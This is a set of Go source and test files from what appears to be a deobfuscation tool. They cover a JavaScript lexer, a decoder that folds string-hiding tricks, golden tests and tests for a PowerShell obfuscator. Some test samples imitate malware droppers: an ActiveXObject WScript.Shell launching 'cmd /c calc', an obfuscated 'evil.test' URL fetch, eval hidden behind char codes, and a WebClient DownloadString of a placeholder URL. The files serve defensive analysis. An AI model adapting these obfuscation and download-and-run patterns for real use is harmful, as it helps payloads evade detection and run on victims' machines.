	for j := i; j <= last; j += 2 {
		sb.WriteString(sig[j].Value)
	}
	lit := QuoteJS(sb.String())
	if len(lit) > maxFoldLen {
		return repl{}, 0, false
	}
	return repl{lo: i, hi: last, text: lit}, last + 1, true
}

// foldEscapes re-renders a single string literal whose raw text hides
// its value behind hex/unicode/octal escapes (`"\x68\x69"` → 'hi').
// Literals that are already plain are left untouched, so a converged
// document stops changing and the fixpoint loop terminates.
func foldEscapes(sig []Token, i int) (repl, int, bool) {
	t := sig[i]
	if t.Type != Str || !hasCodeEscape(t.Text) {
		return repl{}, 0, false
	}
	lit := QuoteJS(t.Value)
	if lit == t.Text || len(lit) > maxFoldLen {
		return repl{}, 0, false
	}
	return repl{lo: i, hi: i, text: lit}, i + 1, true
}

// hasCodeEscape reports whether a raw literal contains a character-code
// escape (\x, \u, or legacy octal) worth decoding.
func hasCodeEscape(raw string) bool {
	for j := 0; j+1 < len(raw); j++ {
		if raw[j] != '\\' {
			continue
		}
		switch raw[j+1] {
		case 'x', 'u', '0', '1', '2', '3', '4', '5', '6', '7':
			return true
		case '\\':
			j++
		}
	}
	return false
}

// foldFromCharCode folds String.fromCharCode(<numbers>) with all-static
// arguments into the string the call returns. The code units are
// combined UTF-16 style, so surrogate pairs split across arguments
// reassemble.
func (r *run) foldFromCharCode(sig []Token, i int) (repl, int, bool) {
	if sig[i].Type != Ident || sig[i].Text != "String" || tightBefore(sig, i) {
		return repl{}, 0, false
	}
	j := i + 1
	if j+2 >= len(sig) || sig[j].Type != Punct || sig[j].Text != "." ||
		sig[j+1].Type != Ident || sig[j+1].Text != "fromCharCode" ||
		sig[j+2].Type != Punct || sig[j+2].Text != "(" {
		return repl{}, 0, false
	}
	j += 3
	var units []uint16
	for {
		if j >= len(sig) {
			return repl{}, 0, false
		}
		if sig[j].Type == Punct && sig[j].Text == ")" && len(units) == 0 {
			j++
			break
		}
		n, ok := staticUint16(sig, &j)
		if !ok {
			return repl{}, 0, false
		}
		units = append(units, n)
		if j >= len(sig) || sig[j].Type != Punct {
			return repl{}, 0, false
		}
		if sig[j].Text == "," {
			j++
			continue
		}
		if sig[j].Text == ")" {
			j++
			break
		}
		return repl{}, 0, false
	}
	lit := QuoteJS(string(utf16.Decode(units)))
	if len(lit) > maxFoldLen {
		return repl{}, 0, false
	}
	return repl{lo: i, hi: j - 1, text: lit}, j, true
}

// staticUint16 reads one numeric argument (with optional unary minus,
// rejected: fromCharCode wraps mod 2^16 but negative inputs in the wild
// signal trickery) and advances *j past it.
func staticUint16(sig []Token, j *int) (uint16, bool) {
	t := sig[*j]
	if t.Type != Number {
		return 0, false
	}
	v, err := strconv.ParseUint(strings.ReplaceAll(t.Text, "_", ""), 0, 64)
	if err != nil {
		// Fractional char codes truncate in JS; keep the conservative
		// path and only fold integral arguments.
		return 0, false
	}
	*j++
	return uint16(v % 0x10000), true
}

// foldArrayJoin folds a literal string table joined back together —
// ['a','b','c'].join(”) and friends — into the joined literal. The
// opening bracket is guarded against index positions (`table[...]`).
func (r *run) foldArrayJoin(sig []Token, i int) (repl, int, bool) {
	if sig[i].Type != Punct || sig[i].Text != "[" {
		return repl{}, 0, false
	}
	if i > 0 {
		p := sig[i-1]
		// After a value, `[` is indexing, not an array literal.
		if p.Type == Ident || p.Type == Number || p.Type == Str || p.Type == Template ||
			(p.Type == Punct && (p.Text == ")" || p.Text == "]")) {
			return repl{}, 0, false
		}
	}
	j := i + 1
	var parts []string
	for {
		if j >= len(sig) {
			return repl{}, 0, false
		}
		if sig[j].Type == Punct && sig[j].Text == "]" && len(parts) == 0 {
			break
		}
		if sig[j].Type != Str {
			return repl{}, 0, false
		}
		parts = append(parts, sig[j].Value)
		j++
		if j >= len(sig) || sig[j].Type != Punct {
			return repl{}, 0, false
		}
		if sig[j].Text == "," {
			j++
			continue
		}
		if sig[j].Text == "]" {
			break
		}
		return repl{}, 0, false
	}
	// j is at "]"; require .join(<sep?>).
	if j+3 >= len(sig) || sig[j+1].Type != Punct || sig[j+1].Text != "." ||
		sig[j+2].Type != Ident || sig[j+2].Text != "join" ||
		sig[j+3].Type != Punct || sig[j+3].Text != "(" {
		return repl{}, 0, false
	}
	k := j + 4
	sep := ","
	if k < len(sig) && sig[k].Type == Str {
		sep = sig[k].Value
		k++
	}
	if k >= len(sig) || sig[k].Type != Punct || sig[k].Text != ")" {
		return repl{}, 0, false
	}
	lit := QuoteJS(strings.Join(parts, sep))
	if len(lit) > maxFoldLen {
		return repl{}, 0, false
	}
	return repl{lo: i, hi: k, text: lit}, k + 1, true
}

// run wraps the driver's per-run state for the decode pass.
type run struct {
	*frontend.Run
}

type decodePass struct{ r *run }

func (p *decodePass) Name() string { return "jsdecode" }
func (p *decodePass) Run(pc *pipeline.PassContext) error {
	p.r.decodePhase(pc, pc.Doc)
	return nil
}
