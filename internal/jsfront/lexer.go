package jsfront

import (
	"fmt"
	"strings"
)

// TokType classifies a JavaScript token.
type TokType int

const (
	// Ident is an identifier or keyword.
	Ident TokType = iota
	// Number is a numeric literal (decimal, hex, octal, exponent).
	Number
	// Str is a single- or double-quoted string literal.
	Str
	// Template is a backtick template literal (kept opaque).
	Template
	// Regex is a regular-expression literal.
	Regex
	// Punct is an operator or punctuation token.
	Punct
	// Comment is a line or block comment.
	Comment
)

// Token is one lexical token with its source extent.
type Token struct {
	Type  TokType
	Start int
	End   int
	// Text is the raw source slice [Start, End).
	Text string
	// Value is the decoded string value for Str tokens (escape
	// sequences resolved).
	Value string
}

// puncts lists multi-character operators longest-first so the lexer's
// greedy match never splits one (a `++` read as two `+` would turn
// `a++ + "x"` into a bogus concat chain).
var puncts = []string{
	">>>=", "===", "!==", "**=", "<<=", ">>=", ">>>", "...",
	"=>", "==", "!=", "<=", ">=", "&&", "||", "??", "?.",
	"++", "--", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=",
	"<<", ">>", "**",
	"+", "-", "*", "/", "%", "=", "<", ">", "!", "&", "|", "^", "~",
	"?", ":", ";", ",", ".", "(", ")", "[", "]", "{", "}",
}

func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isIdentPart(c byte) bool {
	return isIdentStart(c) || (c >= '0' && c <= '9')
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

// regexCanFollow reports whether a `/` after the given token starts a
// regex literal rather than a division — the standard one-token-lookback
// heuristic: division needs a value on its left.
func regexCanFollow(prev *Token) bool {
	if prev == nil {
		return true
	}
	switch prev.Type {
	case Number, Str, Template, Regex:
		return false
	case Ident:
		// Keywords that end a non-value position.
		switch prev.Text {
		case "return", "typeof", "instanceof", "in", "of", "new", "delete",
			"void", "do", "else", "case", "yield", "await", "throw":
			return true
		}
		return false
	case Punct:
		switch prev.Text {
		case ")", "]", "}":
			return false
		}
		return true
	}
	return true
}

// Lex tokenizes JavaScript source. It fails on unterminated strings,
// templates, comments and regexes — the deobfuscator treats a lexable,
// bracket-balanced script as valid, so lexer errors are syntax errors.
func Lex(src string) ([]Token, error) {
	var toks []Token
	var prev *Token
	i := 0
	push := func(t Token) {
		toks = append(toks, t)
		if t.Type != Comment {
			prev = &toks[len(toks)-1]
		}
	}
	for i < len(src) {
		c := src[i]
		switch {
		case c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\f' || c == '\v':
			i++
		case c == '/' && i+1 < len(src) && src[i+1] == '/':
			j := strings.IndexByte(src[i:], '\n')
			if j < 0 {
				j = len(src) - i
			}
			push(Token{Type: Comment, Start: i, End: i + j, Text: src[i : i+j]})
			i += j
		case c == '/' && i+1 < len(src) && src[i+1] == '*':
			j := strings.Index(src[i+2:], "*/")
			if j < 0 {
				return nil, fmt.Errorf("jsfront: unterminated block comment at %d", i)
			}
			end := i + 2 + j + 2
			push(Token{Type: Comment, Start: i, End: end, Text: src[i:end]})
			i = end
		case c == '\'' || c == '"':
			end, err := scanString(src, i)
			if err != nil {
				return nil, err
			}
			text := src[i:end]
			val, err := decodeString(text)
			if err != nil {
				return nil, err
			}
			push(Token{Type: Str, Start: i, End: end, Text: text, Value: val})
			i = end
		case c == '`':
			end, err := scanTemplate(src, i)
			if err != nil {
				return nil, err
			}
			push(Token{Type: Template, Start: i, End: end, Text: src[i:end]})
			i = end
		case isDigit(c) || (c == '.' && i+1 < len(src) && isDigit(src[i+1])):
			end := scanNumber(src, i)
			push(Token{Type: Number, Start: i, End: end, Text: src[i:end]})
			i = end
		case isIdentStart(c):
			j := i + 1
			for j < len(src) && isIdentPart(src[j]) {
				j++
			}
			push(Token{Type: Ident, Start: i, End: j, Text: src[i:j]})
			i = j
		case c == '/' && regexCanFollow(prev):
			end, err := scanRegex(src, i)
			if err != nil {
				return nil, err
			}
			push(Token{Type: Regex, Start: i, End: end, Text: src[i:end]})
			i = end
		default:
			matched := false
			for _, p := range puncts {
				if strings.HasPrefix(src[i:], p) {
					push(Token{Type: Punct, Start: i, End: i + len(p), Text: p})
					i += len(p)
					matched = true
					break
				}
			}
			if !matched {
				return nil, fmt.Errorf("jsfront: unexpected character %q at %d", c, i)
			}
		}
	}
	return toks, nil
}

// scanString returns the end offset (past the closing quote) of the
// string literal starting at i.
func scanString(src string, i int) (int, error) {
	quote := src[i]
	j := i + 1
	for j < len(src) {
		switch src[j] {
		case '\\':
			j += 2
			continue
		case quote:
			return j + 1, nil
		case '\n':
			return 0, fmt.Errorf("jsfront: unterminated string at %d", i)
		}
		j++
	}
	return 0, fmt.Errorf("jsfront: unterminated string at %d", i)
}

// scanTemplate returns the end offset of the template literal starting
// at i. Interpolations are not parsed; nested backticks inside `${}`
// are not supported (rare, and the decoder never rewrites templates).
func scanTemplate(src string, i int) (int, error) {
	j := i + 1
	for j < len(src) {
		switch src[j] {
		case '\\':
			j += 2
			continue
		case '`':
			return j + 1, nil
		}
		j++
	}
	return 0, fmt.Errorf("jsfront: unterminated template at %d", i)
}

// scanRegex returns the end offset of the regex literal starting at i,
// including flags.
func scanRegex(src string, i int) (int, error) {
	j := i + 1
	inClass := false
	for j < len(src) {
		switch src[j] {
		case '\\':
			j += 2
			continue
		case '[':
			inClass = true
		case ']':
			inClass = false
		case '/':
			if !inClass {
				j++
				for j < len(src) && isIdentPart(src[j]) {
					j++
				}
				return j, nil
			}
		case '\n':
			return 0, fmt.Errorf("jsfront: unterminated regex at %d", i)
		}
		j++
	}
	return 0, fmt.Errorf("jsfront: unterminated regex at %d", i)
}

// scanNumber returns the end offset of the numeric literal starting at
// i (decimal, legacy octal, 0x/0o/0b, fraction, exponent).
func scanNumber(src string, i int) int {
	j := i
	if src[j] == '0' && j+1 < len(src) && (src[j+1] == 'x' || src[j+1] == 'X' ||
		src[j+1] == 'o' || src[j+1] == 'O' || src[j+1] == 'b' || src[j+1] == 'B') {
		j += 2
		for j < len(src) && (isDigit(src[j]) || (src[j] >= 'a' && src[j] <= 'f') || (src[j] >= 'A' && src[j] <= 'F')) {
			j++
		}
		return j
	}
	for j < len(src) && isDigit(src[j]) {
		j++
	}
	if j < len(src) && src[j] == '.' {
		j++
		for j < len(src) && isDigit(src[j]) {
			j++
		}
	}
	if j < len(src) && (src[j] == 'e' || src[j] == 'E') {
		k := j + 1
		if k < len(src) && (src[k] == '+' || src[k] == '-') {
			k++
		}
		if k < len(src) && isDigit(src[k]) {
			j = k
			for j < len(src) && isDigit(src[j]) {
				j++
			}
		}
	}
	return j
}
