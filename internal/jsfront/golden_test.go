package jsfront

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
)

// The JavaScript golden suite mirrors the PowerShell equivalence suite:
// the goldens under testdata/golden freeze the frontend's exact output
// bytes, and every engine or decoder change must reproduce them.
// Regenerate deliberately with
//
//	go test ./internal/jsfront -run TestJSGolden -update-golden
//
// only when an intentional behaviour change is reviewed.
var updateGolden = flag.Bool("update-golden", false, "rewrite JS goldens from current engine output")

func corpusFiles(t *testing.T) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join("testdata", "*.js"))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) < 10 {
		t.Fatalf("JS corpus has %d samples, want >= 10", len(files))
	}
	return files
}

// TestJSGolden runs the full driver with the JavaScript frontend over
// every corpus sample and pins the output bytes.
func TestJSGolden(t *testing.T) {
	d := core.New(core.Options{Lang: "javascript"})
	for _, f := range corpusFiles(t) {
		name := strings.TrimSuffix(filepath.Base(f), ".js")
		t.Run(name, func(t *testing.T) {
			raw, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			res, err := d.Deobfuscate(string(raw))
			if err != nil {
				t.Fatalf("Deobfuscate: %v", err)
			}
			goldenPath := filepath.Join("testdata", "golden", name+".golden")
			if *updateGolden {
				if werr := os.WriteFile(goldenPath, []byte(res.Script), 0o644); werr != nil {
					t.Fatal(werr)
				}
				return
			}
			want, rerr := os.ReadFile(goldenPath)
			if rerr != nil {
				t.Fatalf("missing golden (run with -update-golden to regenerate): %v", rerr)
			}
			if res.Script != string(want) {
				t.Errorf("output diverged for %s\n--- got ---\n%s\n--- want ---\n%s",
					name, res.Script, want)
			}
		})
	}
}

// TestJSGoldenOutputsStillParse asserts every golden is itself a valid
// script under the frontend's validity contract — the semantics-
// preservation bar the driver holds each rewrite to.
func TestJSGoldenOutputsStillParse(t *testing.T) {
	for _, f := range corpusFiles(t) {
		name := strings.TrimSuffix(filepath.Base(f), ".js")
		raw, err := os.ReadFile(filepath.Join("testdata", "golden", name+".golden"))
		if err != nil {
			t.Fatalf("missing golden for %s: %v", name, err)
		}
		if _, err := (JS{}).Parse(string(raw)); err != nil {
			t.Errorf("golden %s no longer parses: %v", name, err)
		}
	}
}

// TestJSDecoderRecoversPayloads spot-checks the decoded payloads: the
// point of the suite is that the literal an analyst needs is in the
// output, not still sharded across a decoder pattern.
func TestJSDecoderRecoversPayloads(t *testing.T) {
	d := core.New(core.Options{Lang: "javascript"})
	tests := []struct {
		src, want string
	}{
		{`var s = "\x68\x69";`, "'hi'"},
		{`var s = 'pay' + 'load';`, "'payload'"},
		{`var s = String.fromCharCode(104, 105);`, "'hi'"},
		{`var s = ['h', 'i'].join('');`, "'hi'"},
		// Composition across fixpoint iterations.
		{`var s = String.fromCharCode(104) + ['i', '!'].join('');`, "'hi!'"},
		{`eval(String.fromCharCode(0x61) + "\x62" + ['c'].join(''));`, "eval('abc');"},
	}
	for _, tt := range tests {
		res, err := d.Deobfuscate(tt.src)
		if err != nil {
			t.Errorf("Deobfuscate(%q): %v", tt.src, err)
			continue
		}
		if !strings.Contains(res.Script, tt.want) {
			t.Errorf("Deobfuscate(%q) = %q, want substring %q", tt.src, res.Script, tt.want)
		}
	}
}

// TestJSInvalidSyntaxRejected asserts driver-level syntax errors surface
// as ErrInvalidSyntax for this frontend too.
func TestJSInvalidSyntaxRejected(t *testing.T) {
	d := core.New(core.Options{Lang: "javascript"})
	for _, src := range []string{"var x = (1;", "var s = 'unterminated", "a ] b"} {
		if _, err := d.Deobfuscate(src); err == nil {
			t.Errorf("Deobfuscate(%q) accepted invalid input", src)
		}
	}
}
