package jsfront

import (
	"strings"
	"testing"
)

func tokTexts(t *testing.T, src string) []string {
	t.Helper()
	toks, err := Lex(src)
	if err != nil {
		t.Fatalf("Lex(%q): %v", src, err)
	}
	out := make([]string, len(toks))
	for i, tok := range toks {
		out[i] = tok.Text
	}
	return out
}

func TestLexPunctsLongestFirst(t *testing.T) {
	// A `++` split into two `+` would fabricate a concat chain out of
	// `a++ + 'x'`; the greedy longest-first match must keep it whole.
	got := tokTexts(t, "a+++'x'")
	want := []string{"a", "++", "+", "'x'"}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("tokens = %v, want %v", got, want)
	}
	got = tokTexts(t, "x>>>=1")
	if got[1] != ">>>=" {
		t.Errorf("tokens = %v, want >>>= whole", got)
	}
	got = tokTexts(t, "a?.b ?? c")
	if got[1] != "?." || got[3] != "??" {
		t.Errorf("tokens = %v, want ?. and ?? whole", got)
	}
}

func TestLexRegexVsDivision(t *testing.T) {
	toks, err := Lex("var r = /ab+c/gi; var d = a / b; return /re/;")
	if err != nil {
		t.Fatal(err)
	}
	var regexes, divisions int
	for _, tok := range toks {
		switch {
		case tok.Type == Regex:
			regexes++
		case tok.Type == Punct && tok.Text == "/":
			divisions++
		}
	}
	if regexes != 2 || divisions != 1 {
		t.Errorf("got %d regexes and %d divisions, want 2 and 1", regexes, divisions)
	}
	// After a closing paren, `/` is division.
	toks, err = Lex("(a) / b")
	if err != nil {
		t.Fatal(err)
	}
	for _, tok := range toks {
		if tok.Type == Regex {
			t.Errorf("(a) / b lexed a regex: %q", tok.Text)
		}
	}
}

func TestLexErrors(t *testing.T) {
	bad := []string{
		"'unterminated",
		"\"newline\nin string\"",
		"`unterminated template",
		"/* unterminated comment",
		"var r = /unterminated",
		"\x01",
	}
	for _, src := range bad {
		if _, err := Lex(src); err == nil {
			t.Errorf("Lex(%q) succeeded, want error", src)
		}
	}
}

func TestLexNumbers(t *testing.T) {
	toks, err := Lex("0xDE 0b101 1.5e-3 .5 42")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"0xDE", "0b101", "1.5e-3", ".5", "42"}
	if len(toks) != len(want) {
		t.Fatalf("tokens = %v, want %v", toks, want)
	}
	for i, tok := range toks {
		if tok.Type != Number || tok.Text != want[i] {
			t.Errorf("token %d = %v/%q, want Number %q", i, tok.Type, tok.Text, want[i])
		}
	}
}

func TestLexStringValues(t *testing.T) {
	tests := []struct {
		src, want string
	}{
		{`'\x68\x69'`, "hi"},
		{`"hi"`, "hi"},
		{`'\u{1F600}'`, "\U0001F600"},
		{`'\150\151'`, "hi"},
		{`'\0'`, "\x00"},
		{`'\n\t\\\''`, "\n\t\\'"},
		{`'line \
cont'`, "line cont"},
		// Lone surrogate half decays to U+FFFD.
		{`'\uD800'`, "�"},
		{`'plain'`, "plain"},
	}
	for _, tt := range tests {
		toks, err := Lex(tt.src)
		if err != nil {
			t.Errorf("Lex(%q): %v", tt.src, err)
			continue
		}
		if len(toks) != 1 || toks[0].Type != Str {
			t.Errorf("Lex(%q) = %v, want one Str token", tt.src, toks)
			continue
		}
		if toks[0].Value != tt.want {
			t.Errorf("value of %q = %q, want %q", tt.src, toks[0].Value, tt.want)
		}
	}
}

func TestLexExtents(t *testing.T) {
	src := "var x = 'a' + /* gap */ 'b';"
	toks, err := Lex(src)
	if err != nil {
		t.Fatal(err)
	}
	for _, tok := range toks {
		if tok.Start < 0 || tok.End > len(src) || src[tok.Start:tok.End] != tok.Text {
			t.Errorf("token %+v does not match its extent in %q", tok, src)
		}
	}
}

func TestQuoteJS(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"hi", "'hi'"},
		{"it's", `'it\'s'`},
		{"a\\b", `'a\\b'`},
		{"a\nb", `'a\nb'`},
		{"\x01", `'\x01'`},
		{"\U0001F600", "'\U0001F600'"},
	}
	for _, tt := range tests {
		if got := QuoteJS(tt.in); got != tt.want {
			t.Errorf("QuoteJS(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
	// Round-trip: quoting then lexing recovers the value.
	for _, s := range []string{"hi", "it's \"quoted\"", "tab\tnl\n", "unicode é 😀"} {
		toks, err := Lex(QuoteJS(s))
		if err != nil || len(toks) != 1 || toks[0].Value != s {
			t.Errorf("round-trip of %q failed: %v %v", s, toks, err)
		}
	}
}

func TestParseBracketBalance(t *testing.T) {
	good := []string{"f(a[0], {k: 1})", "", "(([[{{}}]]))"}
	for _, src := range good {
		if _, err := (JS{}).Parse(src); err != nil {
			t.Errorf("Parse(%q): %v", src, err)
		}
	}
	bad := []string{"(", "f(a]", "{)}", "]"}
	for _, src := range bad {
		if _, err := (JS{}).Parse(src); err == nil {
			t.Errorf("Parse(%q) accepted unbalanced brackets", src)
		}
	}
}
