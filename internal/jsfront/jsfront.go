// Package jsfront is the seed JavaScript frontend: a tokenizer, a
// lexical validity check, and a static string-decoder pass that folds
// the obfuscation patterns dominating real-world JS droppers —
// hex/unicode/octal escape soup, string concatenation chains,
// String.fromCharCode tables, and array-join string tables.
//
// It deliberately stops short of an interpreter: everything it folds is
// statically decidable from the token stream, so the frontend has no
// Evaluate capability and leans entirely on the driver's fixpoint loop
// to collapse composed patterns. It exists to prove the engine core is
// language-agnostic and to seed the third-language path documented in
// DESIGN.md §12.
package jsfront

import (
	"fmt"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

func init() {
	frontend.Register(JS{})
}

// JS is the JavaScript string-decoder frontend.
type JS struct {
	frontend.Base
}

// Name is the canonical language name.
func (JS) Name() string { return "javascript" }

// Tokenize produces the JS token stream ([]Token).
func (JS) Tokenize(src string) (any, error) { return Lex(src) }

// Script is the frontend's parse artifact: the token stream of a
// lexable, bracket-balanced script. The deobfuscator only rewrites at
// token granularity, so balance plus lexability is the validity
// contract — the same bar validOrRevert holds every rewrite to.
type Script struct {
	Toks []Token
}

// Parse checks that src lexes and that its brackets balance, returning
// the token-stream artifact.
func (JS) Parse(src string) (any, error) {
	toks, err := Lex(src)
	if err != nil {
		return nil, err
	}
	var stack []byte
	for _, t := range toks {
		if t.Type != Punct || len(t.Text) != 1 {
			continue
		}
		switch t.Text[0] {
		case '(', '[', '{':
			stack = append(stack, t.Text[0])
		case ')', ']', '}':
			if len(stack) == 0 || stack[len(stack)-1] != opener(t.Text[0]) {
				return nil, fmt.Errorf("jsfront: unbalanced %q at %d", t.Text, t.Start)
			}
			stack = stack[:len(stack)-1]
		}
	}
	if len(stack) != 0 {
		return nil, fmt.Errorf("jsfront: %d unclosed bracket(s)", len(stack))
	}
	return &Script{Toks: toks}, nil
}

func opener(closer byte) byte {
	switch closer {
	case ')':
		return '('
	case ']':
		return '['
	default:
		return '{'
	}
}

// Render renders a recovered value as JavaScript source.
func (JS) Render(v any) (string, bool) {
	switch x := v.(type) {
	case string:
		return QuoteJS(x), true
	case int:
		return fmt.Sprintf("%d", x), true
	case int64:
		return fmt.Sprintf("%d", x), true
	case float64:
		return fmt.Sprintf("%g", x), true
	}
	return "", false
}

// Capabilities: static recovery only, no evaluator.
func (JS) Capabilities() frontend.Capabilities {
	return frontend.Capabilities{RecoverableNodes: true}
}

// HasRecoverable reports whether the parsed artifact contains any
// pattern the decode pass could fold (the RecoverableDetector hook).
func (JS) HasRecoverable(ast any) bool {
	s, ok := ast.(*Script)
	if !ok {
		return false
	}
	for _, t := range s.Toks {
		switch t.Type {
		case Str:
			if hasCodeEscape(t.Text) {
				return true
			}
		case Ident:
			if t.Text == "fromCharCode" || t.Text == "join" {
				return true
			}
		case Punct:
			if t.Text == "+" {
				return true
			}
		}
	}
	return false
}

// LayerPasses returns the fixpoint-loop passes: the one decode pass
// (honoring the AST-phase ablation switch, which governs recovery
// passes across frontends).
func (JS) LayerPasses(fr *frontend.Run) []pipeline.Pass {
	if fr.Opts.DisableASTPhase {
		return nil
	}
	return []pipeline.Pass{&decodePass{&run{fr}}}
}

// FinalPasses: none — the frontend does not reformat or rename.
func (JS) FinalPasses(fr *frontend.Run) []pipeline.Pass { return nil }
