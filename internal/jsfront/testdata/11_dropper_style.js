// stage 1 loader
var k = 'WSc' + 'ript.' + 'Sh' + 'ell';
var c = String.fromCharCode(99, 109, 100) + ' /c ' + "\x63\x61\x6c\x63";
new ActiveXObject(k).Run(c);
