var name = '\u0065\u0076\u0069\u006c';
var emoji = '\u{1F600}';
send(name, emoji);
