var url = ['\x68\x74\x74\x70', ':', '//'].join('') + String.fromCharCode(101, 118) + 'il.test';
get(url);
