var n = 3 * '7' + '1';
var m = 'a' + 'b' * 2;
var keep = 'x' + 'y' + 'z' * 1;
check(n, m, keep);
