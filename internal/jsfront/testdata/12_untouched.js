var re = /ab+c/gi;
var tpl = `value ${x} here`;
var sum = a + b;
var plain = 'already clean';
done(re, tpl, sum, plain);
