var fn = String.fromCharCode(101, 118, 97, 108);
window[fn]('1+1');
