var cmd = 'ev' + 'al' + '("' + 'payload' + '")';
run(cmd);
