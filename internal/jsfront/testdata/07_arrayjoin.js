var host = ['ma', 'lwa', 're'].join('');
var path = ['a', 'b', 'c'].join('/');
var csv = ['x', 'y'].join();
fetch(host, path, csv);
