var smile = String.fromCharCode(0xD83D, 0xDE00);
show(smile);
