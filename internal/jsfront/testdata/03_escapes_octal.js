var tag = '\150\151\41';
log(tag);
