var arr = ['o', 'n', 'e'];
var first = arr[0];
var word = ['t', 'w', 'o'].join('');
use(first, word);
