package obfuscate

import (
	"strings"
	"testing"
	"testing/quick"

	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

func TestLevels(t *testing.T) {
	for _, tech := range All() {
		if l := Level(tech); l < 1 || l > 3 {
			t.Errorf("Level(%s) = %d", tech, l)
		}
	}
	if Level(Ticking) != 1 || Level(Concat) != 2 || Level(EncodeBase64) != 3 {
		t.Error("level assignment broken")
	}
}

func TestDeterminism(t *testing.T) {
	const script = "write-host hello"
	for _, tech := range All() {
		a, errA := New(99).Apply(script, tech)
		b, errB := New(99).Apply(script, tech)
		if (errA == nil) != (errB == nil) || a != b {
			t.Errorf("%s: nondeterministic output", tech)
		}
	}
}

func TestOutputsAlwaysParse(t *testing.T) {
	scripts := []string{
		"write-host hello",
		"$u = 'http://x.test/a.ps1'\n(New-Object Net.WebClient).DownloadString($u)",
		"if ($x) { write-host 'yes' } else { write-host 'no' }",
	}
	for _, tech := range All() {
		for _, script := range scripts {
			for seed := int64(1); seed <= 3; seed++ {
				out, err := New(seed).Apply(script, tech)
				if err != nil {
					continue // not applicable
				}
				if _, perr := psparser.Parse(out); perr != nil {
					t.Errorf("%s(seed=%d) produced invalid syntax: %v\n%s", tech, seed, perr, out)
				}
			}
		}
	}
}

// TestSemanticsPreserved executes original and obfuscated scripts in
// the interpreter and compares console output — the obfuscator's core
// contract.
func TestSemanticsPreserved(t *testing.T) {
	const script = "$greeting = 'hello'; write-host $greeting; write-output world | out-host"
	want := runConsole(t, script)
	for _, tech := range All() {
		out, err := New(3).Apply(script, tech)
		if err != nil {
			t.Errorf("%s: %v", tech, err)
			continue
		}
		if got := runConsole(t, out); got != want {
			t.Errorf("%s changed behaviour:\nwant %q\ngot  %q\nscript:\n%s", tech, want, got, out)
		}
	}
}

func runConsole(t *testing.T, src string) string {
	t.Helper()
	in := psinterp.New(psinterp.Options{MaxSteps: 5_000_000})
	if _, err := in.EvalSnippet(src); err != nil {
		t.Fatalf("eval %q: %v", src, err)
	}
	return in.Console()
}

// TestStringTransformProperty: every L2 string expression evaluates
// back to the original value, for arbitrary printable content.
func TestStringTransformProperty(t *testing.T) {
	transforms := map[string]func(o *Obfuscator, v string) (string, bool){
		"concat":  (*Obfuscator).concatString,
		"reorder": (*Obfuscator).reorderString,
		"replace": (*Obfuscator).replaceString,
		"reverse": (*Obfuscator).reverseString,
	}
	for name, fn := range transforms {
		name, fn := name, fn
		seed := int64(0)
		f := func(raw string) bool {
			seed++
			value := sanitize(raw)
			if len(value) < 4 {
				return true
			}
			o := New(seed)
			expr, ok := fn(o, value)
			if !ok {
				return true
			}
			in := psinterp.New(psinterp.Options{})
			out, err := in.EvalSnippet(expr)
			if err != nil {
				t.Logf("%s(%q) -> %s: %v", name, value, expr, err)
				return false
			}
			got := psinterp.ToString(psinterp.Unwrap(out))
			if got != value {
				t.Logf("%s(%q) -> %s = %q", name, value, expr, got)
				return false
			}
			return true
		}
		if err := quick.Check(f, &quick.Config{MaxCount: 120}); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// sanitize keeps printable ASCII so the property exercises realistic
// string content (URLs, commands) rather than tokenizer corner cases.
func sanitize(s string) string {
	var sb strings.Builder
	for _, r := range s {
		if r >= 32 && r < 127 {
			sb.WriteRune(r)
		}
	}
	return sb.String()
}

// TestWrapperProperty: every L3 wrapper, when executed, reproduces the
// payload's behaviour.
func TestWrapperProperty(t *testing.T) {
	wrappers := []Technique{
		EncodeASCII, EncodeHex, EncodeBinary, EncodeOctal, EncodeBase64,
		EncodeSpecialChar, EncodeBxor, SecureString, CompressDeflate,
		CompressGzip, EncodeWhitespace,
	}
	payload := "write-host roundtrip"
	want := runConsole(t, payload)
	for _, tech := range wrappers {
		for seed := int64(1); seed <= 5; seed++ {
			out, err := New(seed).Apply(payload, tech)
			if err != nil {
				t.Fatalf("%s: %v", tech, err)
			}
			if got := runConsole(t, out); got != want {
				t.Errorf("%s seed=%d behaviour mismatch: %q\n%s", tech, seed, got, out)
			}
		}
	}
}

func TestApplyStackSkipsInapplicable(t *testing.T) {
	o := New(1)
	out, applied, err := o.ApplyStack("write-host hello", []Technique{RandomName, Concat})
	if err != nil {
		t.Fatal(err)
	}
	if len(applied) != 1 || applied[0] != Concat {
		t.Errorf("applied = %v", applied)
	}
	if out == "write-host hello" {
		t.Error("stack did not change script")
	}
}

func TestTickingPreservesSemantics(t *testing.T) {
	out, err := New(2).Apply("(New-Object Net.WebClient)", Ticking)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "`") {
		t.Errorf("no ticks inserted: %q", out)
	}
	in := psinterp.New(psinterp.Options{})
	v, err := in.EvalSnippet(out)
	if err != nil {
		t.Fatalf("ticked script does not run: %v", err)
	}
	if obj, ok := psinterp.Unwrap(v).(*psinterp.Object); !ok || obj.TypeName != "System.Net.WebClient" {
		t.Errorf("ticked script result = %#v", psinterp.Unwrap(v))
	}
}

func TestRandomIdentifierFailsVowelTest(t *testing.T) {
	o := New(4)
	vowels := 0
	letters := 0
	for i := 0; i < 50; i++ {
		for _, r := range o.randomIdentifier() {
